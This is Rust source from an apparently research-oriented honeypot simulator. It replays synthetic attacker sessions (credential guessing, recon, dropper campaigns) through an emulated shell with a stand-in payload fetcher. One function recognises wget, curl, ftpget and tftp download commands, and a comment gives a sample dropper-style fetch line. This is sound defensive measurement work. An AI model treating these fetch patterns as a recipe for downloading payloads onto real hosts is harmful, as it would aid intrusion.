                scale_volume: config.scale.volume,
                scale_hashes: config.scale.hashes,
                days: config.window.num_days(),
                n_clients: self.n_clients as u64,
            },
            plan: self.dataset.plan.clone(),
            sessions: self.dataset.sessions.clone(),
            tags: self.tags.clone(),
        }
    }

    /// Reassemble a run from a loaded snapshot without re-simulating. The
    /// artifact store is replayed deterministically from the stored rows,
    /// so the result feeds the Section 6/7 report pipeline exactly like a
    /// fresh [`Simulation::run`] of the same seed.
    pub fn from_snapshot(snapshot: Snapshot) -> SimOutput {
        let (dataset, tags, meta) = snapshot.into_dataset();
        SimOutput {
            dataset,
            tags,
            n_clients: meta.n_clients as usize,
        }
    }
}

/// The simulator.
pub struct Simulation;

impl Simulation {
    /// Run the full window, panicking on an internal coverage bug (see
    /// [`Simulation::try_run`] for the fallible form).
    pub fn run(config: SimConfig) -> SimOutput {
        Self::try_run(config).unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// Run with a per-day progress callback receiving a [`DayStats`]
    /// throughput report after each simulated day.
    pub fn run_with_progress(config: SimConfig, progress: impl FnMut(&DayStats)) -> SimOutput {
        Self::try_run_with_progress(config, progress)
            .unwrap_or_else(|e| panic!("simulation failed: {e}"))
    }

    /// Fallible form of [`Simulation::run`]: a day pre-pass coverage gap
    /// (a `prepare_day`/`precompute_day` bug) surfaces as a typed
    /// [`SimError`] naming the missing key instead of a panic mid-shard.
    pub fn try_run(config: SimConfig) -> Result<SimOutput, SimError> {
        Self::try_run_with_progress(config, |_| {})
    }

    /// Fallible form of [`Simulation::run_with_progress`].
    pub fn try_run_with_progress(
        config: SimConfig,
        mut progress: impl FnMut(&DayStats),
    ) -> Result<SimOutput, SimError> {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: config.seed,
            scale: config.scale,
            window: config.window,
        });
        let configs = build_configs(&eco.plan);
        let mut collector =
            Collector::with_capacity(&eco.world, eco.plan.clone(), eco.estimated_sessions());
        let mut tags = TagDb::new();
        // Both per-day pre-passes persist across days: campaign variants
        // repeat day after day, so parse/outcome work amortizes across the
        // whole window, not just within one day.
        let mut cache = ScriptCache::new();
        let mut prepared = PreparedScripts::new();
        let days = config.window.num_days();
        let threads = config.threads.max(1);
        hf_obs::gauge!("sim.threads", threads);
        hf_obs::gauge!("sim.days", days);
        let mut total_sessions = 0usize;
        for day in 0..days {
            let _day_span = hf_obs::span!("sim.day");
            let day_start = Instant::now();
            let plans = eco.plan_day(day);
            hf_obs::counter!("sim.days_executed", 1);
            hf_obs::counter!("sim.sessions_executed", plans.len() as u64);
            hf_obs::observe!("sim.day_sessions", plans.len());
            let ctx = ExecCtx {
                plan: &eco.plan,
                configs: &configs,
                catalog: &eco.catalog,
                creds: &eco.creds,
                pool: eco.pool_ref(),
            };
            // Serial pre-pass: parse each distinct campaign/recon script
            // once (or pre-compute its cached outcome), then execute the
            // day's plans through the shard machinery. With `threads == 1`
            // the single shard runs inline — same plan order, no spawn.
            let mode = if config.use_script_cache {
                cache.precompute_day(&ctx, &plans);
                DayMode::Cached(&cache)
            } else {
                prepared.prepare_day(&ctx, &plans);
                DayMode::Full(&prepared)
            };
            // Ingest shard-by-shard in shard order — same row/tag order
            // as a serial loop without concatenating the whole day's
            // records into one intermediate vector first.
            for (records, day_tags) in execute_day_shards(&ctx, &plans, threads, mode)? {
                collector.ingest_batch(&records);
                tags.merge(day_tags);
            }
            total_sessions += plans.len();
            progress(&DayStats {
                day: day + 1,
                days_total: days,
                day_sessions: plans.len(),
                total_sessions,
                threads,
                day_wall: day_start.elapsed(),
            });
        }
        Ok(SimOutput {
            dataset: collector.finish(),
            tags,
            n_clients: eco.n_clients(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn short_run_produces_consistent_dataset() {
        let out = Simulation::run(SimConfig::test(10));
        assert!(out.dataset.len() > 500, "sessions: {}", out.dataset.len());
        assert!(out.n_clients > 50);
        assert!(!out.tags.is_empty());
        // Every stored session has a valid honeypot and a start within range.
        for v in out.dataset.sessions.iter() {
            assert!((v.honeypot() as usize) < out.dataset.plan.len());
            assert!(v.day() < 10);
        }
    }

    #[test]
    fn runs_are_bit_reproducible() {
        let a = Simulation::run(SimConfig::test(6));
        let b = Simulation::run(SimConfig::test(6));
        assert_eq!(a.dataset.len(), b.dataset.len());
        assert_eq!(a.n_clients, b.n_clients);
        let rows_equal = a
            .dataset
            .sessions
            .rows()
            .iter()
            .zip(b.dataset.sessions.rows())
            .all(|(x, y)| x == y);
        assert!(rows_equal, "identical seeds must give identical stores");
        assert_eq!(a.tags.len(), b.tags.len());
    }

    #[test]
    fn different_seeds_differ() {
        let a = Simulation::run(SimConfig::test(5));
        let mut cfg = SimConfig::test(5);
        cfg.seed = 999;
        let b = Simulation::run(cfg);
        assert_ne!(
            a.dataset.sessions.rows().first().map(|r| r.client_ip),
            b.dataset.sessions.rows().first().map(|r| r.client_ip)
        );
    }

    #[test]
    fn all_categories_present_in_a_run() {
        let out = Simulation::run(SimConfig::test(12));
        let mut no_cred = 0;
        let mut fail_log = 0;
        let mut no_cmd = 0;
        let mut cmd = 0;
        let mut cmd_uri = 0;
        for v in out.dataset.sessions.iter() {
            if !v.attempted_login() {
                no_cred += 1;
            } else if !v.login_succeeded() {
                fail_log += 1;
            } else if v.n_commands() == 0 {
                no_cmd += 1;
            } else if !v.has_uri() {
                cmd += 1;
            } else {
                cmd_uri += 1;
            }
        }
        assert!(no_cred > 0, "no_cred");
        assert!(fail_log > 0, "fail_log");
        assert!(no_cmd > 0, "no_cmd");
        assert!(cmd > 0, "cmd");
        assert!(cmd_uri > 0, "cmd_uri {cmd_uri}");
        // FAIL_LOG should be the biggest bucket even in a short window.
        assert!(fail_log > no_cred / 4);
    }

    #[test]
    fn script_cache_preserves_session_content() {
        let mut slow_cfg = SimConfig::test(8);
        let mut fast_cfg = SimConfig::test(8);
        slow_cfg.use_script_cache = false;
        fast_cfg.use_script_cache = true;
        let slow = Simulation::run(slow_cfg);
        let fast = Simulation::run(fast_cfg);
        // Same session count and identical hash/command/URI universes; only
        // per-session timing randomness differs between the paths.
        assert_eq!(slow.dataset.len(), fast.dataset.len());
        let digests = |out: &SimOutput| {
            let mut v: Vec<_> = out
                .dataset
                .sessions
                .digests
                .iter()
                .map(|(_, d)| d)
                .collect();
            v.sort();
            v
        };
        assert_eq!(digests(&slow), digests(&fast));
        assert_eq!(slow.tags.len(), fast.tags.len());
        let cmd_count = |out: &SimOutput| {
            out.dataset
                .sessions
                .iter()
                .map(|v| v.n_commands())
                .sum::<usize>()
        };
        assert_eq!(cmd_count(&slow), cmd_count(&fast));
        let uri_sessions =
            |out: &SimOutput| out.dataset.sessions.iter().filter(|v| v.has_uri()).count();
        assert_eq!(uri_sessions(&slow), uri_sessions(&fast));
    }

    #[test]
    fn artifacts_match_stored_hashes() {
        let out = Simulation::run(SimConfig::test(8));
        // Every distinct digest in the store is known to the artifact store.
        for (_, digest) in out.dataset.sessions.digests.iter() {
            assert!(out.dataset.artifacts.get(&digest).is_some());
        }
        // And tagged (tail campaigns are 'unknown' but still present).
        let tagged = out
            .dataset
            .sessions
            .digests
            .iter()
            .filter(|(_, d)| out.tags.tag(d).is_some())
            .count();
        assert_eq!(tagged, out.dataset.sessions.digests.len());
    }

    #[test]
    fn snapshot_roundtrip_reproduces_the_run() {
        let cfg = SimConfig::test(6);
        let out = Simulation::run(cfg.clone());
        let mut bytes = Vec::new();
        out.to_snapshot(&cfg).write_to(&mut bytes).expect("write");
        let loaded =
            SimOutput::from_snapshot(Snapshot::read_from(&mut bytes.as_slice()).expect("read"));
        // Sessions: identical rows in identical order.
        assert_eq!(loaded.dataset.sessions.rows(), out.dataset.sessions.rows());
        assert_eq!(loaded.n_clients, out.n_clients);
        // Tags: same associations.
        assert_eq!(loaded.tags.len(), out.tags.len());
        for (h, e) in out.tags.iter() {
            assert_eq!(loaded.tags.tag(h), Some(e.tag.as_str()));
            assert_eq!(loaded.tags.campaign(h), Some(e.campaign.as_str()));
        }
        // Artifacts: the deterministic replay matches the live collector.
        assert_eq!(loaded.dataset.artifacts.len(), out.dataset.artifacts.len());
        for (h, meta) in out.dataset.artifacts.iter() {
            let r = loaded.dataset.artifacts.get(h).expect("artifact");
            assert_eq!(r.first_seen, meta.first_seen);
            assert_eq!(r.last_seen, meta.last_seen);
            assert_eq!(r.occurrences, meta.occurrences);
        }
        // Deployment metadata survives.
        assert_eq!(loaded.dataset.plan, out.dataset.plan);
    }

    #[test]
    fn progress_reports_every_day() {
        let mut seen = Vec::new();
        Simulation::run_with_progress(SimConfig::test(4), |s| {
            seen.push((s.day, s.days_total, s.day_sessions, s.threads));
        });
        assert_eq!(seen.len(), 4);
        assert_eq!(seen.last().unwrap().0, 4);
        assert!(seen
            .iter()
            .all(|&(_, total, n, t)| total == 4 && n > 0 && t == 1));
    }
}
