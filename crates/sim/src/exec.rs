//! Plan execution: one [`SessionPlan`] → one [`SessionRecord`], via the real
//! honeypot state machine.

use std::sync::Arc;

use hf_agents::campaigns::{recon_script, CampaignCatalog};
use hf_agents::credentials::CredentialModel;
use hf_agents::{Behavior, ClientPool, SessionPlan};
use hf_farm::{FarmPlan, TagDb};
use hf_hash::{Digest, Sha256};
use hf_honeypot::{HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::CLIENT_BANNERS;
use hf_proto::Protocol;
use hf_shell::{LineBuf, RemoteFetcher};
use hf_simclock::SimInstant;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::error::SimError;

/// Fetcher that serves a single campaign payload for any URI — the simulated
/// equivalent of the dropper's distribution host. The body is shared
/// (`Arc`) and its digest pre-computed, so every session of a (campaign,
/// variant) hands the shell a ready digest hint instead of re-hashing the
/// same dropper on each download.
struct CampaignFetcher {
    body: Arc<Vec<u8>>,
    digest: Digest,
}

impl CampaignFetcher {
    fn new(body: Vec<u8>) -> Self {
        let digest = Sha256::digest(&body);
        CampaignFetcher {
            body: Arc::new(body),
            digest,
        }
    }
}

impl RemoteFetcher for CampaignFetcher {
    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
        Some(self.body.as_ref().clone())
    }

    fn digest_hint(&self, _uri: &str) -> Option<Digest> {
        Some(self.digest)
    }
}

/// Cached outcome of running a fixed script through the shell once: the
/// content of a session's shell phase, independent of per-session timing.
#[derive(Debug, Clone, Default)]
pub struct ScriptOutcome {
    /// Commands as the shell records them (with redirections, known flags).
    pub commands: Vec<hf_shell::CommandRecord>,
    /// File hashes produced.
    pub file_hashes: Vec<hf_hash::Digest>,
    /// URIs referenced.
    pub uris: Vec<String>,
    /// Download-body hashes.
    pub download_hashes: Vec<hf_hash::Digest>,
    /// Number of transfer commands (each adds transfer time + timer reset).
    pub transfers: u32,
}

/// Script-result cache: identical campaign variants (and recon templates)
/// produce identical shell outcomes, so the emulation runs once per distinct
/// script instead of once per session. DESIGN.md's "shell fast-path"
/// ablation; disabled by default so timing distributions stay identical to
/// the reference configuration.
#[derive(Debug, Default)]
pub struct ScriptCache {
    campaigns: std::collections::HashMap<(u32, u32), ScriptOutcome>,
    recon: std::collections::HashMap<u64, ScriptOutcome>,
}

impl ScriptCache {
    /// Empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of cached outcomes.
    pub fn len(&self) -> usize {
        self.campaigns.len() + self.recon.len()
    }

    /// Is the cache empty?
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Serial pre-pass for a day's plans: compute (in plan order) every
    /// distinct script outcome the plans will need, so that execution can
    /// read the cache immutably — from any number of worker threads —
    /// via [`execute_plan_prepared`] without locks.
    ///
    /// Visiting plans in order makes this byte-equivalent to the lazy fill
    /// [`execute_plan_cached`] performs: each cache key is computed against
    /// the honeypot profile of the first plan that needs it, exactly as the
    /// lazy path would.
    pub fn precompute_day(&mut self, ctx: &ExecCtx<'_>, plans: &[SessionPlan]) {
        for plan in plans {
            match plan.behavior {
                Behavior::Script { campaign } => {
                    let spec = ctx.catalog.get(campaign);
                    let variant = spec.variant_on(plan.day);
                    self.campaigns
                        .entry((campaign.0, variant))
                        .or_insert_with(|| {
                            let fetcher =
                                Box::new(CampaignFetcher::new(spec.payload_bytes(variant)));
                            compute_outcome(ctx, plan.honeypot, &spec.script(variant), fetcher)
                        });
                }
                Behavior::Recon { variant } => {
                    let key = variant as u64 ^ (plan.seed % 8);
                    self.recon.entry(key).or_insert_with(|| {
                        compute_outcome(
                            ctx,
                            plan.honeypot,
                            &recon_script(key),
                            Box::new(hf_shell::NullFetcher),
                        )
                    });
                }
                _ => {}
            }
        }
    }
}

/// One script line, parsed once: the raw text, its pre-lexed statement
/// buffer, and the number of transfer commands on the line.
#[derive(Debug)]
pub struct PreparedLine {
    /// The line as the client would type it.
    pub text: String,
    /// Pre-parsed statements (reused read-only by every session).
    pub buf: LineBuf,
    /// Fetch commands on the line (each adds transfer time + timer reset).
    pub transfers: u32,
}

fn prepare_lines(lines: &[String]) -> Vec<PreparedLine> {
    lines
        .iter()
        .map(|text| {
            let mut buf = LineBuf::new();
            buf.parse(text);
            PreparedLine {
                text: text.clone(),
                buf,
                transfers: transfer_count(text),
            }
        })
        .collect()
}

/// A campaign variant's prepared form: pre-parsed script plus the shared
/// payload body and its digest (for the per-session [`CampaignFetcher`]).
#[derive(Debug)]
pub struct PreparedScript {
    /// Pre-parsed script lines.
    pub lines: Vec<PreparedLine>,
    body: Arc<Vec<u8>>,
    digest: Digest,
}

/// Day-prepared scripts for the *full-emulation* path: every campaign
/// variant and recon template a day's plans reference, lexed and parsed
/// once. Sessions then execute through
/// [`hf_honeypot::SessionDriver::run_parsed_quiet`] — the shell still runs
/// per session (real VFS, real events), but parsing happens once per
/// (campaign, variant) per study, not once per session.
///
/// Entries persist across days (variants repeat), so [`PreparedScripts::prepare_day`]
/// only fills gaps. Like [`ScriptCache::precompute_day`], the pre-pass runs
/// serially before workers fan out; the map is then read immutably.
#[derive(Debug, Default)]
pub struct PreparedScripts {
    campaigns: std::collections::HashMap<(u32, u32), PreparedScript>,
    recon: std::collections::HashMap<u64, Vec<PreparedLine>>,
}

impl PreparedScripts {
    /// Empty set.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of prepared entries (campaign variants + recon templates).
    pub fn len(&self) -> usize {
        self.campaigns.len() + self.recon.len()
    }

    /// Is the set empty?
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Ensure every script a day's plans will execute is prepared.
    pub fn prepare_day(&mut self, ctx: &ExecCtx<'_>, plans: &[SessionPlan]) {
        for plan in plans {
            match plan.behavior {
                Behavior::Script { campaign } => {
                    let spec = ctx.catalog.get(campaign);
                    let variant = spec.variant_on(plan.day);
                    self.campaigns
                        .entry((campaign.0, variant))
                        .or_insert_with(|| {
                            let body = spec.payload_bytes(variant);
                            let digest = Sha256::digest(&body);
                            PreparedScript {
                                lines: prepare_lines(&spec.script(variant)),
                                body: Arc::new(body),
                                digest,
                            }
                        });
                }
                Behavior::Recon { variant } => {
                    let key = variant as u64 ^ (plan.seed % 8);
                    self.recon
                        .entry(key)
                        .or_insert_with(|| prepare_lines(&recon_script(key)));
                }
                _ => {}
            }
        }
    }
}

/// Run a command list through a fresh shell and capture its outcome.
fn compute_outcome(
    ctx: &ExecCtx<'_>,
    honeypot: u16,
    lines: &[String],
    fetcher: Box<dyn RemoteFetcher>,
) -> ScriptOutcome {
    let profile = ctx.configs[honeypot as usize].profile.clone();
    let mut shell = hf_shell::ShellSession::new(profile, fetcher);
    let mut transfers = 0u32;
    for line in lines {
        transfers += transfer_count(line);
        shell.execute(line);
    }
    let ev = shell.take_events();
    ScriptOutcome {
        commands: ev.commands,
        file_hashes: ev.file_events.iter().map(|e| e.sha256).collect(),
        uris: ev.uris,
        download_hashes: ev.downloads.iter().map(|(_, h)| *h).collect(),
        transfers,
    }
}

/// Number of network-fetch commands on one shell line.
///
/// A line may chain several commands (`cd /tmp; wget a && wget b`); each
/// fetch counts once, because each adds transfer time and resets the idle
/// timer. Recognized fetchers — optionally behind a `busybox` prefix — are
/// `wget`, `curl`, `ftpget`, and `tftp` in get mode (a `-g` flag, alone or
/// combined as in `-gr`). Matching is on the command position only, so
/// `echo wget` does not count, and a line is never counted twice for
/// matching both a prefix and a substring pattern.
fn transfer_count(line: &str) -> u32 {
    line.split(['|', ';', '&'])
        .filter(|seg| {
            let mut toks = seg.split_whitespace();
            let mut cmd = match toks.next() {
                Some(t) => t,
                None => return false,
            };
            if cmd == "busybox" {
                cmd = match toks.next() {
                    Some(t) => t,
                    None => return false,
                };
            }
            match cmd {
                "wget" | "curl" | "ftpget" => true,
                "tftp" => {
                    toks.any(|t| t.starts_with('-') && !t.starts_with("--") && t[1..].contains('g'))
                }
                _ => false,
            }
        })
        .count() as u32
}

/// Does the line run at least one fetch command? (Predicate form of
/// [`transfer_count`]; execution paths use the count directly.)
#[cfg(test)]
fn is_transfer_line(line: &str) -> bool {
    transfer_count(line) > 0
}

/// Shared execution context (immutable per run).
pub struct ExecCtx<'a> {
    /// Farm deployment: honeypot profiles.
    pub plan: &'a FarmPlan,
    /// Per-honeypot configs, pre-built (index = honeypot id).
    pub configs: &'a [HoneypotConfig],
    /// Campaign catalog for scripts/payloads.
    pub catalog: &'a CampaignCatalog,
    /// Credential model (Table 2).
    pub creds: &'a CredentialModel,
    /// Client pool for IP lookup.
    pub pool: &'a ClientPool,
}

/// Build the per-honeypot configs once.
pub fn build_configs(plan: &FarmPlan) -> Vec<HoneypotConfig> {
    plan.nodes
        .iter()
        .map(|n| HoneypotConfig::paper(n.profile()))
        .collect()
}

/// Execute a plan through the script cache: shell content comes from the
/// cache (computed once per distinct script); auth, timing, and timeout
/// semantics still run through the real [`SessionDriver`].
pub fn execute_plan_cached(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    tags: &mut TagDb,
    cache: &mut ScriptCache,
) -> SessionRecord {
    // Only shell-script behaviours benefit; everything else is identical.
    let (outcome, tag_info): (&ScriptOutcome, Option<(&str, &str)>) = match plan.behavior {
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            let outcome = cache
                .campaigns
                .entry((campaign.0, variant))
                .or_insert_with(|| {
                    let fetcher = Box::new(CampaignFetcher::new(spec.payload_bytes(variant)));
                    compute_outcome(ctx, plan.honeypot, &spec.script(variant), fetcher)
                });
            (&*outcome, Some((spec.tag.label(), spec.name.as_str())))
        }
        Behavior::Recon { variant } => {
            let key = variant as u64 ^ (plan.seed % 8);
            let outcome = cache.recon.entry(key).or_insert_with(|| {
                compute_outcome(
                    ctx,
                    plan.honeypot,
                    &recon_script(key),
                    Box::new(hf_shell::NullFetcher),
                )
            });
            (&*outcome, None)
        }
        _ => return execute_plan(ctx, plan, tags),
    };
    replay_cached(ctx, plan, outcome, tag_info, tags)
}

/// Execute a plan against a *read-only* script cache, pre-filled for the
/// day by [`ScriptCache::precompute_day`]. This is the form the parallel
/// day loop uses: the cache is shared immutably across worker threads, so
/// a missing entry is a caller bug (the pre-pass must cover every plan it
/// hands out) and surfaces as a typed [`SimError`] naming the missing key
/// instead of panicking mid-shard.
pub fn execute_plan_prepared(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    tags: &mut TagDb,
    cache: &ScriptCache,
) -> Result<SessionRecord, SimError> {
    let (outcome, tag_info): (&ScriptOutcome, Option<(&str, &str)>) = match plan.behavior {
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            let outcome = cache.campaigns.get(&(campaign.0, variant)).ok_or(
                SimError::MissingPreparedScript {
                    campaign: campaign.0,
                    variant,
                },
            )?;
            (outcome, Some((spec.tag.label(), spec.name.as_str())))
        }
        Behavior::Recon { variant } => {
            let key = variant as u64 ^ (plan.seed % 8);
            let outcome = cache
                .recon
                .get(&key)
                .ok_or(SimError::MissingPreparedRecon { key })?;
            (outcome, None)
        }
        _ => return Ok(execute_plan(ctx, plan, tags)),
    };
    Ok(replay_cached(ctx, plan, outcome, tag_info, tags))
}

/// Execute a plan with full shell emulation against day-prepared scripts:
/// the real per-session shell runs (fresh VFS, real events, real timing),
/// but script lines come pre-parsed from [`PreparedScripts::prepare_day`]
/// and campaign payload digests are pre-computed. Byte-identical to
/// [`execute_plan`] for the same plan; a missing entry is a pre-pass
/// coverage bug surfaced as a typed [`SimError`].
pub fn execute_plan_full(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    tags: &mut TagDb,
    prepared: &PreparedScripts,
) -> Result<SessionRecord, SimError> {
    let mut rng = SmallRng::seed_from_u64(plan.seed);
    let client = ctx.pool.get(plan.client);
    let start = SimInstant::from_day_and_secs(plan.day, plan.start_secs.min(86_399));
    let config = ctx.configs[plan.honeypot as usize].clone();

    // Fetcher: campaign payload for scripts, unreachable host otherwise.
    let fetcher: Box<dyn RemoteFetcher> = match plan.behavior {
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            let script = prepared.campaigns.get(&(campaign.0, variant)).ok_or(
                SimError::MissingPreparedScript {
                    campaign: campaign.0,
                    variant,
                },
            )?;
            Box::new(CampaignFetcher {
                body: Arc::clone(&script.body),
                digest: script.digest,
            })
        }
        _ => Box::new(hf_shell::NullFetcher),
    };

    let mut driver = SessionDriver::accept(
        config,
        plan.honeypot,
        plan.protocol,
        client.ip,
        rng.gen_range(1024..65_535),
        start,
        fetcher,
    );

    if plan.protocol == Protocol::Ssh {
        driver.client_banner(CLIENT_BANNERS[rng.gen_range(0..CLIENT_BANNERS.len())]);
    }

    match plan.behavior {
        Behavior::Scan { linger_secs } => {
            if driver.advance(linger_secs as u32) {
                driver.client_close();
            }
        }
        Behavior::Scout { attempts } => {
            for _ in 0..attempts {
                let c = ctx.creds.failed(&mut rng);
                driver.offer_credentials(c, rng.gen_range(1..5));
                if driver.finished() {
                    break;
                }
            }
            driver.client_close();
        }
        Behavior::LoginIdle { idle_to_timeout } => {
            login(&mut driver, ctx, None, &mut rng);
            if idle_to_timeout {
                // Wait out the 3-minute idle timer.
                driver.advance(200);
            } else {
                driver.advance(rng.gen_range(3..50));
                driver.client_close();
            }
        }
        Behavior::Recon { variant } => {
            let key = variant as u64 ^ (plan.seed % 8);
            let lines = prepared
                .recon
                .get(&key)
                .ok_or(SimError::MissingPreparedRecon { key })?;
            login(&mut driver, ctx, None, &mut rng);
            for line in lines {
                if driver
                    .run_parsed_quiet(&line.buf, rng.gen_range(1..6))
                    .is_none()
                {
                    break;
                }
            }
            // A substantial share of CMD sessions end in the idle timeout
            // (Fig. 7); the rest close promptly.
            if !driver.finished() {
                if rng.gen_range(0..100) < 35 {
                    driver.advance(200);
                } else {
                    driver.client_close();
                }
            }
        }
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            let script = prepared
                .campaigns
                .get(&(campaign.0, variant))
                .expect("checked when building the fetcher");
            login(&mut driver, ctx, spec.fixed_password, &mut rng);
            for line in &script.lines {
                if driver
                    .run_parsed_quiet(&line.buf, rng.gen_range(1..5))
                    .is_none()
                {
                    break;
                }
                for _ in 0..line.transfers {
                    // Transfer time; resets the idle timer (CMD+URI sessions
                    // may legitimately exceed the 3-minute cap).
                    driver.external_transfer(rng.gen_range(2..120));
                }
            }
            if !driver.finished() {
                if rng.gen_range(0..100) < 20 {
                    driver.advance(200);
                } else {
                    driver.client_close();
                }
            }
            let record = driver.into_record();
            for h in record
                .file_hashes
                .iter()
                .chain(record.download_hashes.iter())
            {
                tags.record(*h, spec.tag.label(), &spec.name);
            }
            return Ok(record);
        }
    }
    Ok(driver.into_record())
}

/// Shared tail of the cached paths: drive a real [`SessionDriver`] through
/// auth and timing, injecting the cached shell outcome. Byte-identical to
/// what the slow path records for the same plan, minus shell re-emulation.
fn replay_cached(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    outcome: &ScriptOutcome,
    tag_info: Option<(&str, &str)>,
    tags: &mut TagDb,
) -> SessionRecord {
    let mut rng = SmallRng::seed_from_u64(plan.seed);
    let client = ctx.pool.get(plan.client);
    let start = SimInstant::from_day_and_secs(plan.day, plan.start_secs.min(86_399));
    let config = ctx.configs[plan.honeypot as usize].clone();
    let fixed_password = match plan.behavior {
        Behavior::Script { campaign } => ctx.catalog.get(campaign).fixed_password,
        _ => None,
    };
    let mut driver = SessionDriver::accept(
        config,
        plan.honeypot,
        plan.protocol,
        client.ip,
        rng.gen_range(1024..65_535),
        start,
        Box::new(hf_shell::NullFetcher),
    );
    if plan.protocol == Protocol::Ssh {
        driver.client_banner(CLIENT_BANNERS[rng.gen_range(0..CLIENT_BANNERS.len())]);
    }
    login(&mut driver, ctx, fixed_password, &mut rng);
    // Script time: per-command think plus transfer time, like the slow path.
    let exec_secs: u32 = (0..outcome.commands.len())
        .map(|_| rng.gen_range(1..5))
        .sum();
    driver.inject_scripted_results(
        &outcome.commands,
        &outcome.file_hashes,
        &outcome.uris,
        &outcome.download_hashes,
        exec_secs.min(170),
    );
    for _ in 0..outcome.transfers {
        driver.external_transfer(rng.gen_range(2..120));
    }
    if !driver.finished() {
        if rng.gen_range(0..100) < 25 {
            driver.advance(200);
        } else {
            driver.client_close();
        }
    }
    let record = driver.into_record();
    if let Some((tag, campaign)) = tag_info {
        for h in record
            .file_hashes
            .iter()
            .chain(record.download_hashes.iter())
        {
            tags.record(*h, tag, campaign);
        }
    }
    record
}

/// Execute a single plan, returning the finished record and tagging any
/// produced hashes in `tags`.
pub fn execute_plan(ctx: &ExecCtx<'_>, plan: &SessionPlan, tags: &mut TagDb) -> SessionRecord {
    let mut rng = SmallRng::seed_from_u64(plan.seed);
    let client = ctx.pool.get(plan.client);
    let start = SimInstant::from_day_and_secs(plan.day, plan.start_secs.min(86_399));
    let config = ctx.configs[plan.honeypot as usize].clone();

    // Fetcher: campaign payload for scripts, unreachable host otherwise.
    let fetcher: Box<dyn RemoteFetcher> = match plan.behavior {
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            Box::new(CampaignFetcher::new(spec.payload_bytes(variant)))
        }
        _ => Box::new(hf_shell::NullFetcher),
    };

    let mut driver = SessionDriver::accept(
        config,
        plan.honeypot,
        plan.protocol,
        client.ip,
        rng.gen_range(1024..65_535),
        start,
        fetcher,
    );

    if plan.protocol == Protocol::Ssh {
        driver.client_banner(CLIENT_BANNERS[rng.gen_range(0..CLIENT_BANNERS.len())]);
    }

    match plan.behavior {
        Behavior::Scan { linger_secs } => {
            if driver.advance(linger_secs as u32) {
                driver.client_close();
            }
        }
        Behavior::Scout { attempts } => {
            for _ in 0..attempts {
                let c = ctx.creds.failed(&mut rng);
                driver.offer_credentials(c, rng.gen_range(1..5));
                if driver.finished() {
                    break;
                }
            }
            driver.client_close();
        }
        Behavior::LoginIdle { idle_to_timeout } => {
            login(&mut driver, ctx, None, &mut rng);
            if idle_to_timeout {
                // Wait out the 3-minute idle timer.
                driver.advance(200);
            } else {
                driver.advance(rng.gen_range(3..50));
                driver.client_close();
            }
        }
        Behavior::Recon { variant } => {
            login(&mut driver, ctx, None, &mut rng);
            for line in recon_script(variant as u64 ^ (plan.seed % 8)) {
                if driver.run_command(&line, rng.gen_range(1..6)).is_none() {
                    break;
                }
            }
            // A substantial share of CMD sessions end in the idle timeout
            // (Fig. 7); the rest close promptly.
            if !driver.finished() {
                if rng.gen_range(0..100) < 35 {
                    driver.advance(200);
                } else {
                    driver.client_close();
                }
            }
        }
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            login(&mut driver, ctx, spec.fixed_password, &mut rng);
            for line in spec.script(variant) {
                let transfers = transfer_count(&line);
                if driver.run_command(&line, rng.gen_range(1..5)).is_none() {
                    break;
                }
                for _ in 0..transfers {
                    // Transfer time; resets the idle timer (CMD+URI sessions
                    // may legitimately exceed the 3-minute cap).
                    driver.external_transfer(rng.gen_range(2..120));
                }
            }
            if !driver.finished() {
                if rng.gen_range(0..100) < 20 {
                    driver.advance(200);
                } else {
                    driver.client_close();
                }
            }
            let record = driver.into_record();
            for h in record
                .file_hashes
                .iter()
                .chain(record.download_hashes.iter())
            {
                tags.record(*h, spec.tag.label(), &spec.name);
            }
            return record;
        }
    }
    driver.into_record()
}

/// Log in, possibly with a preceding failed attempt (NO_CMD sessions "might
/// have had unsuccessful login attempts prior to the successful one").
fn login(
    driver: &mut SessionDriver,
    ctx: &ExecCtx<'_>,
    fixed_password: Option<&str>,
    rng: &mut SmallRng,
) {
    if rng.gen_range(0..100) < 12 {
        let c = ctx.creds.failed(rng);
        driver.offer_credentials(c, rng.gen_range(1..4));
    }
    let creds = match fixed_password {
        Some(pw) => Credentials::new("root", pw),
        None => ctx.creds.successful(rng),
    };
    driver.offer_credentials(creds, rng.gen_range(1..4));
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_agents::{ClientRef, Ecosystem, EcosystemConfig, Scale};
    use hf_simclock::StudyWindow;

    struct Fixture {
        eco: Ecosystem,
        configs: Vec<HoneypotConfig>,
    }

    fn fixture() -> Fixture {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: 77,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(30),
        });
        // Force some allocation so the pool has clients.
        eco.plan_day(0);
        let configs = build_configs(&eco.plan);
        Fixture { eco, configs }
    }

    fn ctx<'a>(f: &'a Fixture, pool_len_check: bool) -> ExecCtx<'a> {
        assert!(!pool_len_check || f.eco.n_clients() > 0);
        ExecCtx {
            plan: &f.eco.plan,
            configs: &f.configs,
